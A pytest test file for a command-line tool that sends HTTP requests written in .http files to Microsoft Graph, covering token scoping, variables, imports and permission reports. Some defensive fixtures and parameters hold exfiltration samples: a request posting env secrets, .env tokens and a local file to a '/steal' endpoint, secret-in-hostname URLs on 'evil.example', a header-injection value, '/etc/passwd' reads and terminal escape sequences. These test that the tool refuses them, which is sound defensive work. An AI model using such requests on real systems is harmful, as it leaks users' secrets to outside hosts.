"""`entrancectl http`: requests that are kept in files, as editors read them."""

import json
import os
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from api import API, Proxy
from terminal import Terminal, shown

TOKEN = "Authorization: Bearer {{$aadV2Token}}"


@pytest.fixture
def host(emulator) -> str:
    parts = urlsplit(emulator.connection("Contoso")["api"])
    return f"{parts.scheme}://{parts.netloc}"


@pytest.fixture
def graph(cli, keyring, person, emulator):
    """The command line for Adele, who may read users and write files."""
    cli.connect_to(
        emulator.connection("Contoso") | {
            "scopes": ["User.Read", "User.Read.All", "Files.ReadWrite"]})
    cli.ok("sign-in")
    return cli


@pytest.fixture
def file(home, host):
    """Writes a file of requests to the emulator, and returns its path."""
    def write(text: str, name: str = "requests.http") -> str:
        (home / name).write_text(text.replace("HOST", host))
        return str(home / name)
    return write


def test_the_only_request(signed_in, file):
    path = file(f"GET HOST/v1.0/me HTTP/1.1\n{TOKEN}\n")
    result = signed_in.ok("http", path)
    assert json.loads(result.out)["displayName"] == "Adele Vance" and result.err == ""
    document = signed_in.ok("http", "--json", "-i", path).json
    assert document["status"] == 200 and document["body"]["displayName"] == "Adele Vance"
    assert signed_in.ok("http", "--table", path).out.startswith("businessPhones")


def test_one_of_several(graph, file):
    path = file(f"""@api = HOST/v1.0
### Who I am
GET {{{{api}}}}/me
{TOKEN}

###
# @name people
{{{{api}}}}/users
  ?$top=1
  &$select=displayName
{TOKEN}

###
GET {{{{api}}}}/me/drive
""")
    assert json.loads(graph.ok("http", path, "Who I am").out)["displayName"] == "Adele Vance"
    people = json.loads(graph.ok("http", path, "people", "--all").out)["value"]
    assert len(people) > 2
    result = graph("http", path)
    assert result.status == 64 and "several requests" in result.err
    for text in ("Who I am", "people", "3", "GET {{api}}/me/drive"):
        assert text in result.err
    assert "no request called" in graph("http", path, "Who").err
    assert graph("http", path, "Who", "--json").error["details"]["people"].startswith("GET ")


def test_a_file_of_many_requests(cli, file):
    path = file("".join(f"###\n# @name r{index // 2}\nGET HOST/{index}\n\n" for index in range(100000)))
    result = cli("http", path)
    assert result.status == 64 and "several requests" in result.err
    assert "100000: GET " in result.err and "r1: GET" not in result.err
    assert cli("http", path, "r7").status == 64


def test_a_file_that_goes_on_without_end(signed_in, file):
    chain = "".join(f"@a{index} = {{{{a{index + 1}}}}}\n" for index in range(100000))
    result = signed_in("http", file(f"{chain}@a100000 = x\nGET HOST/{{{{a0}}}}\n"))
    assert result.status == 64 and "nested too deeply" in result.err
    # Those that are set by the program are counted, too: none is left out without a word.
    fields = "".join(f"a{index}: b\n" for index in range(70000))
    fields = f"client-request-id: x\n{fields}"
    result = signed_in("http", file(f"GET HOST/\n{fields}"))
    assert result.status == 64 and "too many header fields" in result.err


def test_variables(signed_in, file, home):
    path = file(f"GET {{{{api}}}}/{{{{$dotenv WHO}}}}?{{{{$processEnv QUERY}}}}\n{TOKEN}\n")
    (home / ".env").write_text("WHO='me' # Adele\n")
    signed_in.environment["QUERY"] = "$select=mail"
    result = signed_in("http", path)
    assert result.status == 64 and "“api” has no value" in result.err and "Line: 1" in result.err
    assert "Or set it with '--variable api=VALUE'." in result.err
    api = file("HOST/v1.0", "address")
    api = f"api={(home / 'address').read_text()}"
    assert json.loads(signed_in.ok("http", path, "--variable", api).out)["mail"]
    assert signed_in("http", path, "--variable", "x").status == 64
    # The address is shown as it is written.
    path = file("GET {{api}}\n")
    for value in ("", "https://", "https:///me"):
        result = signed_in("http", path, "--variable", f"api={value}")
        assert result.status == 64 and "The address “{{api}}” has no host." in result.err, result


def test_a_body_from_a_file(graph, emulator, file, home):
    content = bytes(range(256))
    (home / "a.bin").write_bytes(content)
    path = file("PUT HOST/v1.0/me/drive/root:/a.bin:/content\n"
                f"Content-Type: application/octet-stream\n{TOKEN}\n\n< ./a.bin\n")
    assert json.loads(graph.ok("http", path).out)["size"] == len(content)
    (home / "a.bin").unlink()
    (home / "a.bin").symlink_to("/etc/passwd")
    for name in ("./a.bin", "/etc/passwd", "../secret", "/dev/zero"):
        path = file(f"PUT HOST/v1.0/x\n{TOKEN}\n\n< {name}\n")
        counts = emulator.program_counts()
        result = graph("http", path)
        assert result.status == 64 and name in result.err and "Line: 4" in result.err
        assert emulator.program_counts() == counts


def test_a_large_body_from_a_file(graph, file, home):
    content = bytes(range(250)) * 20_000
    (home / "large.bin").write_bytes(content)
    path = file("PUT HOST/v1.0/me/drive/root:/large.bin:/content\n"
                f"Content-Type: application/octet-stream\n{TOKEN}\n\n< ./large.bin\n")
    assert json.loads(graph.ok("http", path).out)["size"] == len(content)
    copy = home / "copy.bin"
    graph.ok("graph", "/me/drive/root:/large.bin:/content", "-o", str(copy))
    assert copy.read_bytes() == content


def test_the_token_is_only_for_the_api(signed_in, emulator, file, home):
    other = API(home / "other")
    both = home / "authorities.pem"
    both.write_text(Path(emulator.ca.name).read_text() + other.ca_file.read_text())
    signed_in.connect_to(emulator.connection("Contoso") | {"caFile": str(both)})
    try:
        signed_in.environment["MINE"] = "1"
        path = file(f"GET {other.url}\n{TOKEN}\nX-Mine: {{{{$processEnv MINE}}}}\n")
        result = signed_in.ok("http", path)
        assert "The token is not sent to “localhost:" in result.err
        assert "Authorization" not in other.requests[0] and other.requests[0]["X-Mine"] == "1"
        assert not any("Bearer" in value for value in other.requests[0].values())
    finally:
        other.close()


def test_the_token_of_another_service_is_not_for_the_api(cli, file):
    cli.connect_to({
        "name": "Contoso", "clientID": "11111111-2222-3333-4444-555555555555",
        "scopes": ["api://contoso/read"], "api": "https://api.contoso.example/me"})
    token = TOKEN.replace("}}", " scopes:https://graph.microsoft.com/Mail.Read}}")
    path = file(f"GET https://api.contoso.example/me\n{token}\n")
    for command in (["http", path], ["graph", "/me", "--scope", "Mail.Read"]):
        result = cli(*command)
        assert result.status == os.EX_USAGE, result
        assert "whose tokens are not sent to “api.contoso.example”" in result.err, result


# A file of someone else


@pytest.fixture
def taking(signed_in, file, home) -> str:
    """A file that sends what is on this computer to a host of someone else."""
    signed_in.environment["SECRET"] = "s3cret"
    (home / ".env").write_text("TOKEN=s3cret\n")
    (home / "a.txt").write_text("s3cret")
    return file("""@key = {{$processEnv SECRET}}
POST https://api.contoso.example/steal
X-Key: {{key}}
X-Token: {{$dotenv TOKEN}}

< ./a.txt
""")


@pytest.fixture
def elsewhere(signed_in, emulator, home):
    """The host of someone else, which a proxy leads to."""
    service = API(home / "elsewhere", "api.contoso.example")
    proxy = Proxy(service.server.server_address[1])
    both = home / "authorities.pem"
    both.write_text(Path(emulator.ca.name).read_text() + service.ca_file.read_text())
    signed_in.connect_to(emulator.connection("Contoso") | {"caFile": str(both)})
    signed_in.environment |= {"https_proxy": proxy.url, "no_proxy": "localhost"}
    yield service
    proxy.socket.close()
    service.close()


def test_what_is_on_this_computer_is_not_sent_to_another_host(signed_in, taking, elsewhere):
    result = signed_in("http", taking)
    assert result.status == os.EX_USAGE and "s3cret" not in result.err
    for words in ("to api.contoso.example: {{$processEnv SECRET}}, {{$dotenv TOKEN}}, < ./a.txt.",
                  "add '--allow-host api.contoso.example'"):
        assert words in result.err, result
    assert signed_in("http", taking, "--allow-host", "contoso.example", "--json").error["code"] == "hostNotAllowed"
    assert elsewhere.requests == []


def test_a_host_that_is_allowed_gets_it(signed_in, taking, elsewhere):
    signed_in.ok("http", taking, "--allow-host", "other.example", "--allow-host", "API.contoso.example")
    # A variable of a shell that is not set names no host.
    assert signed_in("http", taking, "--allow-host", "").status == 64
    [request] = elsewhere.requests
    assert request["X-Key"] == request["X-Token"] == "s3cret" and elsewhere.bodies == [b"s3cret"]


@pytest.mark.parametrize("answer, status, count", [("y", 0, 1), ("n", os.EX_USAGE, 0)])
def test_the_person_is_asked_about_another_host(signed_in, taking, elsewhere, answer, status, count):
    terminal = Terminal(signed_in, "http", taking)
    terminal.wait_for("Send them? [y/N] ")
    os.write(terminal.file, f"{answer}\n".encode())
    assert terminal.finish().status == status and len(elsewhere.requests) == count


def test_nobody_is_asked_about_another_host_with_no_input(signed_in, taking, elsewhere):
    result = Terminal(signed_in, "http", taking, "--no-input").finish()
    assert result.status == os.EX_NOINPUT and "[y/N]" not in result.err and "--allow-host" in result.err
    assert elsewhere.requests == []


def test_the_person_is_asked_about_another_host_also_with_a_passphrase_file(signed_in, taking, elsewhere, home):
    (home / "passphrase").write_text("correct horse\n")
    (home / "passphrase").chmod(0o600)
    terminal = Terminal(signed_in, "http", taking, "--passphrase-file", str(home / "passphrase"))
    terminal.wait_for("Send them? [y/N] ")
    os.write(terminal.file, b"y\n")
    assert terminal.finish().status == 0 and len(elsewhere.requests) == 1


@pytest.mark.parametrize("address, shown", [
    ("https://{{$processEnv SECRET}}.evil.example/", None), ("https://{{key}}.evil.example/", None),
    ("{{$dotenv TOKEN}}.evil.example/", None), ("https://evil.example:{{$processEnv PORT}}/", None),
    ("https://a:{{$processEnv SECRET}}@evil.example/", None), ("http://{{$processEnv SECRET}}.evil.example/", None),
    ("/x\nHost: {{$processEnv SECRET}}.evil.example", "{{$processEnv SECRET}}.evil.example/x")])
def test_the_refusal_of_a_host_does_not_tell_what_it_protects(signed_in, taking, elsewhere, file, address, shown):
    signed_in.environment["PORT"] = "4443"
    path = file(f"@key = {{{{$processEnv SECRET}}}}\nGET {address}\nX-Key: {{{{key}}}}\n")
    result = signed_in("http", path)
    assert result.status == os.EX_USAGE and (shown or address) in result.err, result
    assert not any(value in result.err for value in ("s3cret", "4443", "--allow-host")), result
    terminal = Terminal(signed_in, "http", path).finish()
    assert terminal.status == os.EX_USAGE and "s3cret" not in terminal.err and "[y/N]" not in terminal.err
    assert elsewhere.requests == []


def test_a_host_of_the_environment_can_be_allowed(signed_in, taking, elsewhere, file):
    signed_in.environment["PLACE"] = "api.contoso.example"
    path = file("GET https://{{$processEnv PLACE}}/\n")
    assert signed_in("http", path).status == os.EX_USAGE
    signed_in.ok("http", path, "--allow-host", "api.contoso.example")
    assert len(elsewhere.requests) == 1


def test_a_field_that_cannot_be_sent_is_reported_without_its_value(signed_in, taking, file):
    result = signed_in("http", file("GET HOST/v1.0/me\nX(: {{$processEnv SECRET}}\n"))
    assert result.status == os.EX_USAGE and "“X(”" in result.err and "s3cret" not in result.err, result


def test_without_the_field_no_token_is_sent(signed_in, file):
    """To sign in would not help."""
    result = signed_in("http", file("GET HOST/v1.0/me\n"))
    assert result.status == 1 and "No token is sent" in result.err and "HTTP 401" in result.err
    assert "sign-in" not in result.err and "Sign in" not in result.err
    assert "Add the header field 'Authorization: Bearer {{$aadV2Token}}' to the request." in result.err


def test_a_token_does_not_belong_in_a_file(signed_in, file, emulator):
    counts = emulator.program_counts()
    result = signed_in("http", file("GET HOST/v1.0/me\nAuthorization: Bearer eyJhbGciOi.e30.x\n"))
    assert result.status == 64 and "{{$aadV2Token}}" in result.err and "eyJ" not in result.err
    assert emulator.program_counts() == counts


@pytest.mark.parametrize("text, reason", [
    ("", "contains no requests"), ("GET HOST/me\n\n> {% client.log() %}\n", "Scripts"),
    ("GET http://localhost/me\n", "https"), ("OPTIONS HOST/me\n", "Only GET"),
    ("GET HOST/me\nX: {{login.response.body.id}}\n", "another request"),
    ("GET HOST/me\nX: a\x01b\n", "invalid characters"),
])
def test_what_cannot_be_sent(signed_in, file, emulator, text, reason):
    counts = emulator.program_counts()
    result = signed_in("http", file(text))
    assert result.status == 64 and reason in result.err, result
    assert emulator.program_counts() == counts


def test_lines_without_an_effect_have_a_remark(signed_in, file):
    path = file(f"# @timeout 5\nGET HOST/v1.0/me\n{TOKEN}\nclient-request-id: 1\n")
    result = signed_in.ok("http", path)
    assert "line 1: “@timeout” has no effect" in result.err
    assert "“client-request-id” of the file is not sent" in result.err


# Permissions


MAIL = """### Inbox
GET https://graph.microsoft.com/v1.0/me/messages
### Move
PATCH https://graph.microsoft.com/v1.0/me/messages/{{message}}
### Send
POST https://graph.microsoft.com/v1.0/me/sendMail
### Weather
GET https://weather.example/today
"""


def test_explain_a_file(cli, keyring, emulator, file):
    emulator.stop()  # Nothing is sent.
    result = cli.ok("graph", "explain", file(MAIL))
    # Microsoft's pages: user-list-messages, message-update, user-sendmail. Mail.ReadWrite can read, too.
    assert result.out.splitlines() == [
        "Inbox: Mail.ReadBasic", "Move: Mail.ReadWrite", "Send: Mail.Send",
        "Weather: The request goes to “weather.example”, not to Microsoft Graph.",
        "Least privileged permissions for the file: Mail.ReadWrite, Mail.Send", "No account is signed in."]
    document = cli.ok("graph", "explain", file(MAIL), "--json").json
    assert list(document) == [
        "file", "accountKind", "requests", "least", "account", "missing", "command", "tableDate"]
    assert document["least"] == ["Mail.ReadWrite", "Mail.Send"] and document["missing"] is None
    assert list(cli.ok("graph", "explain", "GET", "/me", "--json").json) == [
        "method", "path", "accountKind", "least", "higher", "account", "missing", "command", "tableDate"]


def test_explain_a_file_to_an_account(signed_in, file):
    path = file("GET HOST/v1.0/me\n###\nPOST HOST/v1.0/me/sendMail\n")
    result = signed_in.ok("graph", "explain", path, "--json").json
    assert result["least"] == ["User.Read", "Mail.Send"] and result["missing"] == ["Mail.Send"]
    assert result["command"] == "entrancectl sign-in --scope Mail.Send"


def test_explain_a_file_without_the_values_of_this_computer(cli, keyring, file, home):
    """They can be secrets; what is needed is known by them."""
    (home / ".env").write_text("BASE=https://graph.microsoft.com/v1.0\nKEY=s3cret\nSERVER=hidden.example\n")
    cli.environment["KEY"] = "s3cret-too"
    path = file("""GET {{$dotenv BASE}}/me/messages?key={{$dotenv KEY}}
###
GET https://weather.example/?{{$processEnv KEY}}
###
GET https://{{$dotenv SERVER}}/
""")
    plain = cli.ok("graph", "explain", path)
    result = cli.ok("graph", "explain", path, "--json")
    for text in (plain.out, plain.err, result.out, result.err):
        assert "s3cret" not in text and "hidden" not in text
    assert "{BASE}/me/messages?key={KEY}: Mail.ReadBasic" in plain.out
    assert "The request goes to “{server}”" in plain.out
    assert [request["url"] for request in result.json["requests"]] == [
        "https://{BASE}/me/messages?key={KEY}", "https://weather.example/?{KEY}", "https://{SERVER}/"]


def test_a_recording_that_lacks_a_request_does_not_show_its_values(signed_in, file, home):
    (home / ".env").write_text("KEY=s3cret\n")
    recording = str(home / "session.har")
    signed_in.ok("graph", "/me", "--record", recording)
    result = signed_in("http", file("GET HOST/v1.0/users?key={{$dotenv KEY}}\n"), "--replay", recording)
    assert result.status != 0 and "has no response to this request: GET" in result.err
    assert "/v1.0/users?key=" in result.err and "s3cret" not in result.err


def test_explain_a_file_that_is_not_known(cli, keyring, file):
    result = cli("graph", "explain", file("GET https://graph.microsoft.com/v1.0/no/such/thing\n"))
    assert result.status == 1 and "of 1 request are not known" in result.err
    assert cli("graph", "explain", "/none.http").status == 64


def test_commands_of_curl_are_imported_and_sent(signed_in, emulator, host, home):
    commands = home / "commands.sh"
    commands.write_text(f"""# Who I am
curl -sS '{host}/v1.0/me?$select=mail' \\
  -H 'Authorization: Bearer s3cret' --cookie 'a=s3cret' -k
curl -d 'client_secret=s3cret' https://a.example
""")
    requests = home / "imported.http"
    result = signed_in.ok("http", "import", str(commands), "-o", str(requests))
    assert result.out == "" and "cookies of “--cookie” are left out" in result.err
    assert "“-k” is left out" in result.err and "Define “@client_secret = value”" in result.err
    text = requests.read_text()
    assert "s3cret" not in text + result.err and TOKEN in text and "client_secret={{client_secret}}" in text
    assert json.loads(signed_in.ok("http", str(requests), "1").out)["mail"]

    again = signed_in("http", "import", str(commands), "-o", str(requests))
    assert again.status == 1 and "it already exists" in again.err and "--force" in again.err
    assert requests.read_text() == text
    signed_in.ok("http", "import", str(commands), "-o", str(requests), "--force")
    assert requests.read_text() == text


def test_collections_and_archives_are_recognized(cli):
    collection = {
        "info": {"name": "Graph"}, "item": [{"name": "Me", "request": {
            "method": "GET", "header": [], "url": "https://graph.microsoft.com/v1.0/me",
            "auth": {"type": "bearer", "bearer": [{"key": "token", "value": "s3cret"}]}}}]}
    result = cli.ok("http", "import", "-", input=json.dumps(collection))
    assert result.out == f"### Me\nGET https://graph.microsoft.com/v1.0/me\n{TOKEN}\n" and result.err == ""
    archive = {"log": {"entries": [
        {"request": {"method": "GET", "url": "https://a.example/x", "headers": []}},
        {"request": {"method": "GET", "url": "wss://a.example/x", "headers": []}}]}}
    document = cli.ok("http", "import", "--json", "-", input=json.dumps(archive)).json
    assert document["source"] == "har" and document["requests"] == ["GET a.example/x"]
    assert len(document["remarks"]) == 1 and document["text"].startswith("### GET a.example/x\n")


def test_samples_of_graph_explorer_are_imported(cli):
    samples = {"SampleQueries": [
        {"id": "0d5b1c0e-5c0f-4a53-9f0e-0b1f7a3a2c11", "category": "Mail", "method": "GET",
         "humanName": "my mail", "requestUrl": "/v1.0/me/messages",
         "docLink": "https://learn.microsoft.com/graph/api/user-list-messages", "skipTest": False}]}
    document = cli.ok("http", "import", "--json", "-", input=json.dumps(samples)).json
    assert document["source"] == "graph-explorer" and document["remarks"] == []
    assert document["text"] == f"### Mail / my mail\nGET https://graph.microsoft.com/v1.0/me/messages\n{TOKEN}\n"


def test_a_terminal_gets_no_control_characters_of_an_import(cli, home):
    collection = home / "collection.json"
    collection.write_text(json.dumps({
        "info": {"name": "x"}, "item": [{"name": "Me", "request": {
            "method": "POST", "header": [], "url": "https://a.example",
            "body": {"mode": "raw", "raw": "\x1b]52;c;QQ==\x07Adele\n\x9b31mVance"}}}]}))
    text = shown(cli, "http", "import", str(collection))
    # The empty line between head and body is kept.
    assert "POST https://a.example\r\n" in text and "\r\n\r\n" in text and "Adele\r\n" in text and "Vance" in text


@pytest.mark.parametrize("text, line, column, reason", [
    ("curl \\\n -u a:s3cret https://a.example", 2, 2, "not imported"),
    ("curl 'https://a.example", 1, 6, "not closed"),
    ('{"log": {"entries": [}}', 1, 22, "JSON is invalid"),
    ("GET https://a.example", None, None, "neither a curl command"),
])
def test_what_cannot_be_imported_says_where(cli, text, line, column, reason):
    result = cli("http", "import", "-", input=text)
    assert result.status == 64 and result.out == "" and reason in result.err and "s3cret" not in result.err
    details = cli("http", "import", "-", "--json", input=text).error["details"]
    assert details.get("line") == line and details.get("column") == column
    if column:
        assert f"Column: {column}" in result.err
